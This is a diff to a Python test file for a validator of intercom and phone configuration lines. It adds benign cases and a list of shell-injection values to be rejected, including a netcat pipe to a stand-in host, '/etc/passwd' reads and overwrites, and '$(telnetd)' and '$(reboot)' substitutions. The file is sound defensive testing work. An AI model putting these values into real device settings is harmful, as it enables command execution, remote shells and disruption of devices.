@@ -36,6 +36,15 @@ def _faults(text: str) -> list[tuple[int, Fault]]:
         ("Config.DoorSetting.RELAY.NameA = خانه\u200cی ما", None),
         ("Config.a.b.c.d.e.f = six names", None),
         ("Config.Section_1.Key-2 = # is no comment here", None),
+        # What the maker's own devices need: lists part by ";", dial rules know "|", addresses "&".
+        ("Config.DoorSetting.RELAY.DTMFCodes = 1;2;#", None),
+        ("Config.Features.DIALPLAN.Rule1 = (0[1-9]x.|00x.|110)", None),
+        ("Config.Features.DOORPHONE.ActionUrl = http://192.0.2.7/a?mac=$mac&door=1&&x=$(relay)", None),
+        ("Config.Account1.GENERAL.DisplayName = Smith & Sons; `the best`", None),
+        ("Config.Settings.WEB_LOGIN.Password = a;b|c&d$(e)`f`<g>", None),
+        ("Config.Settings.HANDFREE.Description = one; two", None),
+        ("Config.Settings.KEYMAPPING.Key1 = 1|2", None),
+        ("Config.Settings.SNTP.NTPServer1 = 0.pool.ntp.org", None),
     ],
 )
 def test_a_setting_is_taken_as_typed_but_for_the_space_around_it(typed: str, line: str | None) -> None:
@@ -48,6 +57,16 @@ def test_comments_and_blank_lines_are_passed_over_and_still_counted() -> None:
     judged = judge(f"# the panel at the gate\n\n; by hand\r\n   \n{_GOOD}\n\n")
     assert [(each.number, each.text) for each in judged.settings] == [(5, _GOOD)]
     assert not judged.faults
+
+
+_SHELL_KEYS = (
+    "Config.Settings.SNTP.NTPServer1",
+    "Config.Network.DDNS.Host",
+    "Config.Settings.OTHERS.pInGAddress",
+    "Config.Features.ACTION.Command",
+    "config".capitalize() + ".Settings.HOSTNAME",
+    "Config.Settings.TRACERT.Host.Name",
+)
 
 
 def _hostile() -> list[tuple[str, Fault]]:
@@ -63,24 +82,14 @@ def _hostile() -> list[tuple[str, Fault]]:
     ]
     hidden += ["Config.A.B = 1\rConfig.C.D = 2", "\ufeffConfig.A.B = 1", "Config.A.B = 1\r\r"]
     shell = [
-        f"Config.A.B = {value}"
-        for value in (
-            "`reboot`",
-            "$(reboot)",
-            "${IFS}",
-            "1; reboot",
-            "1;reboot",
-            ";",
-            "1 | nc evil.example.org 99",
-            "1 || reboot",
-            "1 && reboot",
-            "<(cat /etc/passwd)",
-            ">(tee /tmp/x)",
-            "http://host/`id`",
-            "http://host/$(id)",
-            "1 ; comment or command",
-            "'$(telnetd)'",
-            '"`telnetd`"',
+        f"{_SHELL_KEYS[at % len(_SHELL_KEYS)]} = {value}"
+        for at, value in enumerate(
+            (
+                *("`reboot`", "$(reboot)", "${IFS}", "1; reboot", "1;reboot", ";", "1 | nc evil.example.org 99"),
+                *("1 || reboot", "1 && reboot", "1 & reboot", "<(cat /etc/passwd)", ">(tee /tmp/x)", "> /etc/passwd"),
+                *("http://host/`id`", "http://host/$(id)", "1 ; comment or command", "'$(telnetd)'", '"`telnetd`"'),
+                *("'", '"', "\\", "$HOME"),
+            )
         )
     ]
     not_settings = [
@@ -197,6 +206,9 @@ def test_the_same_line_is_kept_once_and_of_one_key_the_last_wins() -> None:
         ("Config.DoorSetting.RELAY.NameA", False),
         ("Config.Settings.CALLTIMEOUT.DialOut", False),
         ("Config.Networking.A.B", False),
+        ("Config.Settings.SNTP.NTPServer1", True),
+        ("Config.Features.ACTION.Cmd", True),
+        ("Config.Settings.OTHERS.Mapping", False),
     ],
 )
 def test_what_can_cut_a_device_off_asks_to_be_confirmed(key: str, dangerous: bool) -> None:
